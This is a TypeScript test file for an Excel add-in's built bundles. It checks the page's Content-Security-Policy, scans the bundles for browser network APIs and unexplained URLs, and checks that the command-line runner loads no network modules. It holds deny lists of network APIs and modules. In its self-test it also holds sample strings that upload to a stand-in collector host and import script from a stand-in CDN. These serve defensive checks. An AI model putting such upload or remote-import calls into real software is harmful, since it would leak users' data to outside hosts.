// Security checks of the production build in dist/ (issue #16; `npm test` builds it first): the page's
// Content-Security-Policy, and the bundles' network reach. The browser tests (test/e2e/preview.e2e.test.ts,
// excelHost.e2e.test.ts) check the same at run time: the policy in force, no request beyond the page's
// origin in the preview, nothing but Office.js in Excel.
import fs from "fs";
import path from "path";
import { bootScript, metaContentSecurityPolicy, tagAttributes } from "./helpers/pageHtml";

const dist = path.resolve(__dirname, "../../dist");

function readDist(relativePath: string): string {
  const file = path.join(dist, relativePath);
  if (!fs.existsSync(file))
    throw new Error(`dist/${relativePath} is missing: run \`npm run build\` first.`);
  return fs.readFileSync(file, "utf8");
}

/** Every script the browser may run: the page's bundles, their chunks and the worker (not the runner). */
function webBundles(): string[] {
  const bundles = fs.readdirSync(dist).filter((name) => name.endsWith(".js"));
  if (bundles.length < 5)
    throw new Error("dist/ holds too few bundles: run `npm run build` first.");
  return bundles;
}

describe("the pane page's Content-Security-Policy (dist/taskpane.html)", () => {
  const html = readDist("taskpane.html");
  const policy = metaContentSecurityPolicy(html);
  const officeJsOrigin = new URL(bootScript(html).scripts.officeJs).origin;

  test("scripts only from the page's server and Office.js's origin: no inline script, no eval", () => {
    expect(policy.get("script-src")).toEqual(["'self'", officeJsOrigin]);
    expect(officeJsOrigin).toBe("https://appsforoffice.microsoft.com");
    expect(policy.get("default-src")).toEqual(["'self'"]);
    expect(policy.get("object-src")).toEqual(["'none'"]);
    expect(policy.get("worker-src")).toEqual(["'self'"]);
    for (const [directive, sources] of policy) {
      expect({ directive, unsafeEval: sources.includes("'unsafe-eval'") }).toEqual({
        directive,
        unsafeEval: false,
      });
      // Only styles may be inline (Fluent UI's CSS-in-JS writes <style> elements at run time).
      if (directive !== "style-src")
        expect({ directive, inline: sources.includes("'unsafe-inline'") }).toEqual({
          directive,
          inline: false,
        });
    }
  });

  test("requests only to the page's server; frames only from Office.js's origin", () => {
    expect(policy.get("connect-src")).toEqual(["'self'"]);
    expect(policy.get("img-src")).toEqual(["'self'", "data:", "blob:"]);
    expect(policy.get("frame-src")).toEqual([officeJsOrigin]);
    expect(policy.get("form-action")).toEqual(["'none'"]);
  });

  test("the page has no inline script: one script tag with a src, no event-handler attributes, no javascript: URL", () => {
    const scripts = tagAttributes(html, "script");
    expect(scripts).toHaveLength(1);
    expect(scripts[0]?.src).toMatch(/^boot\./);
    expect(html).toMatch(/<script\b[^>]*><\/script>/);
    const handlers = Array.from(
      html.matchAll(/<[a-z][^>]*\s(on[a-z]+)\s*=/gi),
      (match) => match[1]
    );
    expect(handlers).toEqual([]);
    expect(html).not.toMatch(/javascript:/i);
  });

  test("the policy comes before anything it governs", () => {
    const policyAt = html.search(/http-equiv="?Content-Security-Policy/i);
    expect(policyAt).toBeGreaterThan(0);
    for (const tag of ["<script", "<link", "<style"])
      expect(html.indexOf(tag)).toBeGreaterThan(policyAt);
  });
});

/**
 * Addresses the bundles may contain, each with why it is not a request. Any other http(s), ws(s) or ftp
 * address in a bundle fails the test: if it is a new library's harmless text, add its host here with
 * the reason; if it is a request, it has no place in the add-in.
 */
const ALLOWED_ADDRESSES: ReadonlyArray<{ readonly host: string; readonly why: string }> = [
  {
    host: "schemas.openxmlformats.org",
    why: "XML namespace names of the xlsx format, never fetched",
  },
  {
    host: "schemas.microsoft.com",
    why: "XML namespace names of Excel's extensions, never fetched",
  },
  { host: "www.w3.org", why: "XML, SVG, XHTML, MathML and XLink namespace names, never fetched" },
  { host: "purl.org", why: "Dublin Core namespace names in docProps/core.xml, never fetched" },
  {
    host: "github.com",
    why: "source comments of fflate in the (unminified) runner (UZIP.js, which it credits)",
  },
  { host: "reactjs.org", why: "React's production error messages link to its error decoder" },
  {
    host: "stuk.github.io",
    why: "JSZip's error message for a file that is not a zip links to its docs",
  },
  { host: "gist.github.com", why: "source comments of fflate in the (unminified) runner" },
  {
    host: "tools.ietf.org",
    why: "source comments of fflate in the (unminified) runner (RFC 1951)",
  },
  { host: "reddit.com", why: "source comments of fflate in the (unminified) runner" },
];

const ADDRESS = /\b(?:https?|wss?|ftp):\/\/[^\s"'`<>()\\,;]+/g;

/** Addresses in a bundle whose host the allow-list does not name. */
function unexplainedAddresses(text: string): string[] {
  const allowed = new Set(ALLOWED_ADDRESSES.map(({ host }) => host));
  return Array.from(text.matchAll(ADDRESS), (match) => match[0]).filter(
    (address) => !allowed.has(new URL(address).host)
  );
}

/** Browser APIs that send or receive over the network; none may appear in our bundles. */
const NETWORK_APIS: ReadonlyArray<{ readonly name: string; readonly pattern: RegExp }> = [
  { name: "fetch()", pattern: /\bfetch\s*\(/ },
  { name: "XMLHttpRequest", pattern: /\bXMLHttpRequest\b/ },
  { name: "WebSocket", pattern: /\bWebSocket\b/ },
  { name: "EventSource", pattern: /\bEventSource\b/ },
  { name: "navigator.sendBeacon", pattern: /\bsendBeacon\b/ },
  { name: "WebRTC", pattern: /\bRTCPeerConnection\b/ },
  { name: "a service worker", pattern: /\bserviceWorker\b/ },
  { name: "an image beacon", pattern: /\bnew Image\s*\(/ },
];

/**
 * webpack's own loader of a worker's chunks: `importScripts(<public path> + <chunk file>)`, where the
 * public path is the worker's own address (same server). Any other importScripts call fails the test.
 */
const WEBPACK_CHUNK_IMPORT = /importScripts\(\s*\w+\.p\s*\+\s*\w+\.u\(\s*\w+\s*\)\s*\)/g;

describe("the built bundles make no network calls of ours", () => {
  test("no browser network API in any bundle, chunk or worker of the add-in", () => {
    const found: string[] = [];
    for (const bundle of webBundles()) {
      const text = readDist(bundle);
      for (const { name, pattern } of NETWORK_APIS)
        if (pattern.test(text)) found.push(`${bundle}: ${name}`);
    }
    expect(found).toEqual([]);
  });

  test("importScripts only as webpack's loader of the worker's own chunks", () => {
    const calls: string[] = [];
    let webpackLoaders = 0;
    for (const bundle of webBundles()) {
      const text = readDist(bundle);
      webpackLoaders += (text.match(WEBPACK_CHUNK_IMPORT) ?? []).length;
      const others = text.replace(WEBPACK_CHUNK_IMPORT, "").match(/importScripts\s*\(/g) ?? [];
      for (const call of others) calls.push(`${bundle}: ${call}`);
    }
    expect(calls).toEqual([]);
    // The analysis worker is there, with its loader (so this check looked at the right code).
    expect(webpackLoaders).toBeGreaterThanOrEqual(1);
  });

  test("every address in the add-in's bundles is an XML name or text, never a request", () => {
    const unexplained: string[] = [];
    let addresses = 0;
    for (const bundle of webBundles()) {
      const text = readDist(bundle);
      addresses += (text.match(ADDRESS) ?? []).length;
      for (const address of unexplainedAddresses(text)) unexplained.push(`${bundle}: ${address}`);
    }
    expect(unexplained).toEqual([]);
    expect(addresses).toBeGreaterThan(20); // the package writer's xlsx namespaces, at least: the scan saw the bundles
    // Office.js is not in any bundle: the page names it for the boot script, which loads it in Office only.
    for (const bundle of webBundles())
      expect({ bundle, officeJs: readDist(bundle).includes("appsforoffice") }).toEqual({
        bundle,
        officeJs: false,
      });
  });

  test("the runner (dist/cli) loads no network module and names no address but XML names and text", () => {
    const runner = readDist("cli/ccg-footprint.js");
    const modules = Array.from(
      runner.matchAll(/require\(\s*["'](?:node:)?([\w/]+)["']\s*\)/g),
      (match) => match[1]
    );
    expect(modules).toContain("fs");
    const network = ["http", "https", "http2", "net", "tls", "dgram", "dns", "inspector"];
    expect(modules.filter((name) => network.includes(name ?? ""))).toEqual([]);
    for (const { name, pattern } of NETWORK_APIS.slice(0, 4))
      expect({ name, found: pattern.test(runner) }).toEqual({ name, found: false });
    expect(unexplainedAddresses(runner)).toEqual([]);
  });

  test("the allow-list test itself catches a request address and a network call", () => {
    expect(unexplainedAddresses('fetch("https://collector.example.com/upload")')).toEqual([
      "https://collector.example.com/upload",
    ]);
    expect(unexplainedAddresses('ns="http://schemas.openxmlformats.org/x"')).toEqual([]);
    expect(
      NETWORK_APIS.filter(({ pattern }) => pattern.test("navigator.sendBeacon(u, d)"))
    ).toHaveLength(1);
    expect("importScripts(r.p+r.u(e))".replace(WEBPACK_CHUNK_IMPORT, "")).toBe("");
    expect(
      'importScripts("https://cdn.example.com/x.js")'.replace(WEBPACK_CHUNK_IMPORT, "")
    ).toMatch(/importScripts\(/);
  });
});
